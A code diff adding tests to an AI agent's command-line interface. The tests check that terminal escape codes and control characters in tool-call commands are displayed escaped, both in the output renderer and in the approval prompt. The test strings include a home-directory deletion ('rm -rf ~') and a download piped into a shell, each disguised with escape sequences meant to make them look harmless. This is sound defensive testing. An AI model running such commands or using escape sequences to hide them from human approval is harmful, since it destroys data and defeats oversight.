@@ -148,3 +148,35 @@ def test_describe_args_and_sizes():
         "1,200 in · 5 out · 2 model calls · 1.2 s"
     )
     assert fmt.ago(100.0, now=130.0) == "30s ago" and fmt.ago(0.0, now=7200.0) == "2h ago"
+
+
+def test_control_characters_are_shown_not_obeyed():
+    sneaky = "rm -rf ~ \x1b[2K\r\x1b[1Aecho hello\u202e"
+    assert fmt.visible(sneaky) == "rm -rf ~ \\x1b[2K\\x0d\\x1b[1Aecho hello\\u202e"
+    assert fmt.visible("a\r\nb\tc") == "a\nb\tc"
+    r, out = plain_renderer()
+    call = bash_call("out\x1b[31mred\n") | {"arguments": {"command": sneaky}}
+    r.on_event("tool_end", {"call": call})
+    text = out.getvalue()
+    assert "\x1b" not in text and "\\x1b[2K" in text and "\\x1b[31mred" in text
+
+
+def test_approval_shows_the_command_escaped(monkeypatch):
+    from graph.cli.approval import Approver
+    from graph.state import ToolCallInfo
+
+    out = io.StringIO()
+    console = Console(file=out, force_terminal=False, no_color=True, width=200)
+    call = ToolCallInfo(
+        call_id="b1",
+        tool_name="bash",
+        arguments={"command": "curl x | sh\x1b[1A\x1b[2Kecho safe"},
+        status="awaiting_approval",
+        risk="HIGH",
+        reason="pipes a download into a shell",
+    )
+    decisions = Approver(console, prompter=None, auto=True).ask([call])
+    assert decisions == {"b1": "approve"}
+    text = out.getvalue()
+    assert "$ curl x | sh\\x1b[1A\\x1b[2Kecho safe" in text and "\x1b" not in text
+    assert "why: pipes a download into a shell" in text and "HIGH" in text
